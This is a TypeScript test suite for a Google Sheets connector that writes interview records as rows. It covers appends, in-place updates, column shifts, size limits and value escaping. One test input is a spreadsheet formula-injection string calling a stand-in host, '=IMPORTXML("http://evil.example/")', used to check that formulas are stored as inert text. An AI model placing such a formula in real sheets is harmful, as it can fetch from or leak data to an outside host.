import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import googleSheets from '../../connectors/google-sheets.ts';
import type { JsonValue } from '../../src/connector.ts';
import { SHEETS_SPREADSHEET } from '../../src/sandbox/sheets.ts';
import { openDestination } from '../support/destination.ts';
import { makeItem } from '../support/item.ts';
import { again, attempt, COLUMNS, interview, receiptOf, scene } from '../support/sheets.ts';

describe('google-sheets: rows', () => {
  it('makes the tab and its header, and one row an interview', async (t) => {
    const { deliver, rows, standIn } = await scene(t);
    const [outcome] = await deliver([interview('int_1')]);
    assert.deepEqual(rows(), [
      ['Interview ID', 'Study', 'Note'],
      ['int_1', 'Checkout', 'note of int_1'],
    ]);
    assert.deepEqual(receiptOf(outcome), {
      spreadsheet: SHEETS_SPREADSHEET,
      tab: 'Interviews',
      key: 'int_1',
      range: 'A2:C2',
      url: `https://docs.google.com/spreadsheets/d/${SHEETS_SPREADSHEET}/edit#gid=${standIn.tab('Interviews')?.id}&range=A2:C2`,
    });
    assert.equal(standIn.tab('Interviews')?.frozenRowCount, 1);
  });

  it('fills columns that most teams want when the config names none', async (t) => {
    const { options, rows } = await scene(t);
    const destination = openDestination(googleSheets, options, { timezone: 'Europe/Berlin' });
    receiptOf(await destination.deliver(makeItem(), attempt));
    const [header = [], row = []] = rows();
    const cells = Object.fromEntries(header.map((name, index) => [name, row[index]]));
    assert.equal(cells['Interview ID'], 'int_0001');
    assert.equal(cells.Completed, '2026-11-23 15:04');
    assert.equal(cells.Minutes, 9);
    assert.match(String(cells.Quotes), /shipping step/);
    assert.equal(cells.Recording, 'https://recordings.example.com/int_0001.mp4');
  });

  it('sends rows that wait together in one append, in their order', async (t) => {
    const { deliver, rows, standIn } = await scene(t);
    const ids = Array.from({ length: 200 }, (_, i) => `int_${i}`);
    const outcomes = await deliver(ids.map((id) => interview(id)));
    assert.equal(standIn.calls.filter((call) => call === 'POST values:append').length, 1);
    assert.deepEqual(
      rows()
        .slice(1)
        .map(([id]) => id),
      ids,
    );
    assert.deepEqual(
      outcomes.map((outcome) => receiptOf(outcome).range),
      ids.map((_, i) => `A${i + 2}:C${i + 2}`),
    );
  });

  it('keeps a call within 2 MB', async (t) => {
    const { deliver, rows, standIn } = await scene(t);
    const outcomes = await deliver(Array.from({ length: 100 }, (_, i) => interview(`int_${i}`, 'x'.repeat(50_000))));
    assert.ok(outcomes.every(({ kind }) => kind === 'delivered'));
    assert.equal(standIn.calls.filter((call) => call === 'POST values:append').length, 3);
    assert.equal(rows().length, 101);
  });

  it('updates in place, wherever the row has gone, and leaves the cells of the team alone', async (t) => {
    const { deliver, draw } = await scene(t);
    const tab = draw([['Owner', 'Interview ID', 'Note', 'Study']]);
    const items = ['int_1', 'int_2', 'int_3'].map((id) => interview(id));
    const outcomes = await deliver(items);
    tab.write(3, 0, [['Ada']], 'RAW');
    tab.moveRow(3, 1);
    const updated = await deliver([
      again(interview('int_3'), outcomes[2], null),
      again(interview('int_1'), outcomes[0], 5),
    ]);
    assert.deepEqual(tab.rows(), [
      ['Owner', 'Interview ID', 'Note', 'Study'],
      ['Ada', 'int_3', null, 'Checkout'],
      [null, 'int_1', 5, 'Checkout'],
      [null, 'int_2', 'note of int_2', 'Checkout'],
    ]);
    assert.deepEqual(
      updated.map((outcome) => receiptOf(outcome).range),
      ['A2:D2', 'A3:D3'],
    );
  });

  it('appends anew what a person deleted', async (t) => {
    const { deliver, rows, standIn } = await scene(t);
    const outcomes = await deliver([interview('int_1'), interview('int_2')]);
    standIn.tab('Interviews')?.deleteRow(1);
    const [outcome] = await deliver([again(interview('int_1'), outcomes[0])]);
    assert.deepEqual(
      rows()
        .slice(1)
        .map(([id]) => id),
      ['int_2', 'int_1'],
    );
    assert.equal(receiptOf(outcome).range, 'A3:C3');
  });

  it('of two rows with one key updates the one that the receipt is of', async (t) => {
    const { deliver, rows } = await scene(t);
    const [first] = await deliver([interview('int_1', 'first')]);
    const [second] = await deliver([interview('int_1', 'second generation')]);
    await deliver([again(interview('int_1'), second, 'changed')]);
    assert.deepEqual(
      rows()
        .slice(1)
        .map(([, , note]) => note),
      ['first', 'changed'],
    );
    await deliver([again(interview('int_1'), first, 'too')]);
    assert.deepEqual(
      rows()
        .slice(1)
        .map(([, , note]) => note),
      ['too', 'changed'],
    );
  });

  it('writes what belongs together, whichever column a person inserts between two batches', async (t) => {
    const { open, standIn, rows } = await scene(t);
    const destination = open();
    const first = await destination.deliver(interview('int_1'), attempt);
    standIn.tab('Interviews')?.insertColumn(1);
    standIn.tab('Interviews')?.write(0, 1, [['Owner']], 'RAW');
    await destination.deliver(interview('int_2'), attempt);
    await destination.deliver(again(interview('int_1'), first, 'changed'), attempt);
    assert.deepEqual(rows(), [
      ['Interview ID', 'Owner', 'Study', 'Note'],
      ['int_1', null, 'Checkout', 'changed'],
      ['int_2', null, 'Checkout', 'note of int_2'],
    ]);
  });

  it('makes the tab again when it was deleted while the relay ran', async (t) => {
    const { open, standIn, rows } = await scene(t);
    const destination = open();
    await destination.deliver(interview('int_1'), attempt);
    standIn.spreadsheets.get(SHEETS_SPREADSHEET)?.tabs.splice(1);
    receiptOf(await destination.deliver(interview('int_2'), attempt));
    assert.deepEqual(
      rows().map(([id]) => id),
      ['Interview ID', 'int_2'],
    );
  });

  it('overwrites nothing that stands below the table', async (t) => {
    const { deliver, draw } = await scene(t);
    const tab = draw([['Interview ID', 'Study', 'Note'], [], ['Totals', 7]]);
    await deliver([interview('int_1'), interview('int_2')]);
    assert.deepEqual(
      tab.rows().map(([first]) => first ?? null),
      ['Interview ID', 'int_1', 'int_2', null, 'Totals'],
    );
  });

  const odd: [string, JsonValue[][]][] = [
    ['a blank first column', [[null, 'Interview ID', 'Study', 'Note']]],
    [
      'cells of the team in a column without a name',
      [
        [null, 'Interview ID', 'Study', 'Note'],
        ['draft', 'int_0', 'Old', 'old'],
      ],
    ],
    ['a blank column inside the header', [['Interview ID', null, 'Study', 'Note']]],
    [
      'a first column that the team seldom fills',
      [
        ['Owner', 'Interview ID', 'Study', 'Note'],
        [null, 'int_0', 'Old', 'old'],
      ],
    ],
  ];
  for (const [title, before] of odd) {
    it(`puts each value under its name beside ${title}`, async (t) => {
      const { deliver, draw } = await scene(t);
      const tab = draw(before);
      await deliver([interview('int_1')]);
      await deliver([interview('int_2'), interview('int_3')]);
      const [header = []] = before;
      const at = ['Interview ID', 'Study', 'Note'].map((name) => header.indexOf(name));
      const added = tab.rows().slice(before.length);
      assert.deepEqual(tab.rows().slice(0, before.length), before, 'what was there is untouched');
      assert.deepEqual(
        added.map((row) => at.map((column) => row[column])),
        ['int_1', 'int_2', 'int_3'].map((id) => [id, 'Checkout', `note of ${id}`]),
      );
      assert.ok(added.every((row) => row.filter((value) => value !== null && value !== undefined).length === 3));
    });
  }

  it('does not lose rows to overlapping appends when the relay keeps its one writer', async (t) => {
    const { open, standIn, rows } = await scene(t);
    const spreadsheet = standIn.spreadsheets.get(SHEETS_SPREADSHEET);
    assert.ok(spreadsheet);
    const [one, other] = [open(), open({ tab: 'Other' })];
    assert.equal(one.limits.serial, other.limits.serial);
    await one.deliver(interview('int_0'), attempt);
    // What the real service does to two writers, so that the limit has a reason.
    spreadsheet.appendRace = 20;
    await Promise.all([one.deliver(interview('int_1'), attempt), one.deliver(interview('int_2'), attempt)]);
    assert.equal(rows().length, 3, 'two writers at once lose a row');
  });
});

describe('google-sheets: values', () => {
  it('keeps any text to the byte, formulas and numbers as text among them', async (t) => {
    const { deliver, rows, standIn } = await scene(t);
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.string({ unit: 'grapheme', maxLength: 200 }),
      fc.constantFrom(
        '=1+1',
        '+1',
        "'quoted",
        '007',
        '1e5',
        'TRUE',
        '2026-11-23',
        '=IMPORTXML("http://evil.example/")',
        ' ',
      ),
      fc.integer({ min: 49_000, max: 50_000 }).map((length) => 'ä'.repeat(length)),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 20 }), async (texts) => {
        const before = rows().length || 1;
        const outcomes = await deliver(texts.map((note, i) => interview(`int_${before}_${i}`, note)));
        assert.ok(outcomes.every(({ kind }) => kind === 'delivered'));
        assert.deepEqual(
          rows()
            .slice(before)
            .map(([, , note]) => note ?? ''),
          texts,
        );
      }),
      { numRuns: 20 },
    );
    assert.deepEqual(standIn.tab('Interviews')?.formulas(), []);
  });

  it('keeps numbers and booleans of a lone `{{ … }}`, and nothing else', async (t) => {
    const { deliver, rows } = await scene(t);
    const values = [0, -1.5, 1e21, true, false, null, [1, 'a'], { a: 1 }];
    await deliver(values.map((note, i) => interview(`int_${i}`, note)));
    assert.deepEqual(
      rows()
        .slice(1)
        .map(([, , note]) => note ?? null),
      [0, -1.5, 1e21, true, false, null, '1, a', '{"a":1}'],
    );
    await deliver([interview('int_9', 7)], { columns: { Note: 'n = {{ interview.metadata.note }}' } });
    assert.equal(rows().at(-1)?.[2], 'n = 7');
  });

  it('cuts a cell at 50,000 characters, and repairs half a surrogate pair', async (t) => {
    const { deliver, rows } = await scene(t);
    await deliver([interview('int_1', 'word '.repeat(20_000)), interview('int_2', 'a\ud800b')]);
    const long = String(rows()[1]?.[2]);
    assert.ok(long.length <= 50_000 && long.endsWith('word…'));
    assert.equal(rows()[2]?.[2], 'a\ufffdb');
  });

  it('rejects only the item whose template cannot be rendered', async (t) => {
    const { deliver, rows } = await scene(t);
    const columns = { ...COLUMNS, Note: '{% for i in (1..interview.metadata.note) %}{{ i }}{% endfor %}' };
    const outcomes = await deliver([interview('int_1', 3), interview('int_2', 1e9)], { columns });
    assert.deepEqual(
      outcomes.map(({ kind }) => kind),
      ['delivered', 'reject'],
    );
    assert.equal(rows().length, 2);
  });
});
